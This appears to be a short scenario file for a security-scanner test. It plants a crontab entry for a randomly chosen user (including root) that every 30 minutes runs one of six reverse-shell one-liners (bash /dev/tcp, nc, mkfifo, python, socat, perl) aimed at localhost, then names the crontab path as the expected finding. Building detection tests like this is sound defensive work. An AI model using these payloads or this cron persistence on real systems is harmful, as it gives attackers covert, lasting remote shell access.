# id: P343
# mode: scan
# level: suspicious
# title: a crontab line that connects a shell
# due: now
pick user www-data root anna
some_port port
pick line "bash -c 'exec bash -i &>/dev/tcp/127.0.0.1/$port <&1'" "rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 127.0.0.1 $port >/tmp/p" \
    "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",$port));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'" \
    "nc -e /bin/sh 127.0.0.1 $port" "socat exec:'bash -li',pty,stderr tcp:127.0.0.1:$port" "perl -e 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in($port,inet_aton(\"127.0.0.1\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'"
echo "*/30 * * * * $line" >"/var/spool/cron/crontabs/$user"
chown "$user":crontab "/var/spool/cron/crontabs/$user"
chmod 600 "/var/spool/cron/crontabs/$user"
said path "/var/spool/cron/crontabs/$user"
